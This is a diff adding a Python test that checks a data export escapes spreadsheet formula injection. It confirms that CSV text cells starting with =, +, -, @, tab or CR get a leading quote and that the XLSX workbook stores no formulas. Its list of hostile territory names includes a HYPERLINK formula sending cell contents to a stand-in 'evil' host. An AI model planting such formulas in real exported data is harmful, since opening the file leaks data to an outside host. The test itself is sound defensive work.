@@ -13,6 +13,7 @@ import csv
 import html
 import importlib
 import re
+import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -309,6 +310,50 @@ def test_exports_round_trip_and_are_deterministic(con, catalogue, tmp_path):
     csv_again, xlsx_again = write_exports(con, catalogue, tmp_path / "two")
     assert csv_again.read_bytes() == csv_path.read_bytes()
     assert xlsx_again.read_bytes() == xlsx_path.read_bytes()
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "+1", "-1+1",
+                 "\tcmd", "\r=1", "Saint-Malo\r=1+2"]
+
+
+def test_csv_text_cells_that_spreadsheets_would_run_start_with_a_quote(catalogue, tmp_path):
+    con = build_warehouse(catalogue)
+    codes = [r[0] for r in con.execute(
+        "SELECT DISTINCT territory_code FROM indicator_values ORDER BY 1").fetchall()]
+    assert len(codes) >= len(HOSTILE_NAMES)
+    named = dict(zip(codes, HOSTILE_NAMES, strict=False))
+    for code, name in named.items():
+        con.execute("UPDATE indicator_values SET territory_name = ? WHERE territory_code = ?",
+                    [name, code])
+    con.execute("UPDATE indicator_values SET status_reason = '-5 respondents' "
+                "WHERE territory_code = ?", [codes[0]])
+    csv_path, xlsx_path = write_exports(con, catalogue, tmp_path / "one")
+    with csv_path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    names = {r["territory_code"]: r["territory_name"] for r in rows}
+    assert [names[c] for c in named] == [
+        '\'=HYPERLINK("http://evil/"&A1,"x")', "'=1+2", "'@SUM(1+1)", "'+1", "'-1+1",
+        "'\tcmd", "'\r=1", "Saint-Malo\r=1+2"]  # a CR inside a name is quoted
+    assert {r["status_reason"] for r in rows if r["territory_code"] == codes[0]} == \
+        {"'-5 respondents"}
+    con.execute("UPDATE indicator_values SET value = -value WHERE value IS NOT NULL")
+    csv_negative, _ = write_exports(con, catalogue, tmp_path / "negative")
+    with csv_negative.open(encoding="utf-8", newline="") as handle:
+        flipped = list(csv.DictReader(handle))
+    values = [r["value"] for r in flipped if r["value"] not in ("", "0")]
+    assert values and all(v.startswith("-") and float(v) < 0 for v in values)  # numbers stay
+    again, _ = write_exports(con, catalogue, tmp_path / "two")
+    assert again.read_bytes() == csv_negative.read_bytes()
+
+    # The workbook writes every string as text: no cell of it is a formula.
+    with zipfile.ZipFile(xlsx_path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
+                                  for n in sheets)
+    book = CalamineWorkbook.from_path(str(xlsx_path))
+    cells = {c for d in catalogue.domains for row in book.get_sheet_by_name(d.code).to_python()
+             for c in row if isinstance(c, str)}
+    assert {'=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "-1+1"} <= cells
 
 
 def test_exports_refuse_indicators_missing_from_the_catalogue(catalogue, tmp_path):
